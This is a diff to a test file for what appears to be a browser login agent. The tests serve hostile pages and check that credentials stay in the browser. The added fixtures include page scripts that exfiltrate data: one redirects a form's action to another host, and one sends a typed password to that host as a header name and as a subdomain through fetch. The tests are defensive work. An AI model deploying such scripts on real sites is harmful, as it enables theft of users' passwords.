@@ -5,6 +5,7 @@ import type { FillResult } from '../../contract/steps.js';
 import { type Bench, bench, inputOf, QUICK, testPages } from '../engine/login/harness.js';
 import { BUTTONS, copies, MOVED, SUBMISSIONS } from '../sites/hostile/leaks.js';
 import { type HostileSite, loginForm, type Places, type Site, serveHostile, WELCOME } from '../sites/hostile/serve.js';
+import { variants } from '../support/variants.js';
 
 const EMAIL = 'anna.lindqvist@example.com';
 const PASSWORD = 'Tr0ub4dor & "9\'/\\Zebra';
@@ -54,7 +55,7 @@ async function logIn(
 }
 
 describe('a password that its site would have sent elsewhere', () => {
-  it.each([...SUBMISSIONS, ...BUTTONS])('$name', async ({ own, how }) => {
+  it.each([...variants(3, SUBMISSIONS), ...variants(1, BUTTONS)])('$name', async ({ own, how }) => {
     await logIn(own, ({ end, site }) => {
       expect(site.taken).toEqual([]);
       expect(end).toMatchObject({ kind: 'failed', code: 'domain_not_allowed' });
@@ -93,10 +94,12 @@ describe('a code in boxes, beside a frame of another site that takes the focus a
     }
   </script>`;
 
-  it.each([
-    ['is inserted box by box', '', true],
-    ['is typed by keys where the page takes nothing else, or not at all', BY_KEY, false],
-  ])('%s, and no digit goes there', async (_, script, surely) => {
+  it.each(
+    variants(1, [
+      ['is inserted box by box', '', true],
+      ['is typed by keys where the page takes nothing else, or not at all', BY_KEY, false],
+    ] as const),
+  )('%s, and no digit goes there', async (_, script, surely) => {
     await logIn(
       (places) => ({ '/': form(script) + frame(places), 'POST /login': WELCOME }),
       ({ site, end }) => {
@@ -181,6 +184,19 @@ it('an address does not leave by the form that it was typed into', async () => {
   );
 });
 
+it('an address does not leave by a form in an address that a listener has just changed', async () => {
+  const [asked, changed] = [emailForm.replace('method="post"', 'method="get"'), `document.forms[0].action = `];
+  await logIn(
+    ({ other }) => ({
+      '/': `${asked}<script>document.forms[0].onsubmit = () => { ${changed}'${other}/take'; };</script>`,
+    }),
+    ({ end, site }) => {
+      expect(site.taken).toEqual([]);
+      expect(end).toMatchObject({ kind: 'input' });
+    },
+  );
+});
+
 it('copies of a password in every writing and by every way stay in the browser, and the login goes on', async () => {
   await logIn(
     (places) => ({ '/': loginForm() + copies(places), 'POST /login': WELCOME }),
@@ -190,5 +206,22 @@ it('copies of a password in every writing and by every way stay in the browser, 
       expect(site.received.filter((line) => line.startsWith('POST /login'))).toHaveLength(1);
       expect(b.vault.trace.map(({ reason }) => reason)).toContain('copy_stopped');
     },
+  );
+});
+
+it('a password stays in the browser as the name of a host or a header, which is written in small letters', async () => {
+  await logIn(
+    ({ other }) => ({
+      '/': `${loginForm()}<script>password.oninput = ({ target: { value } }) => {
+        fetch('${other}/take', { headers: { [value]: '1' } }).catch(() => 0);
+        fetch('${other}/take'.replace('127.0.0.1', value + '.localhost'), { mode: 'no-cors' }).catch(() => 0);
+      };</script>`,
+      'POST /login': WELCOME,
+    }),
+    ({ end, site }) => {
+      expect(site.taken).toEqual([]);
+      expect(end).toMatchObject({ kind: 'authenticated' });
+    },
+    { value: (name) => (name === 'email' ? EMAIL : 'CorrectHorse99') },
   );
 });
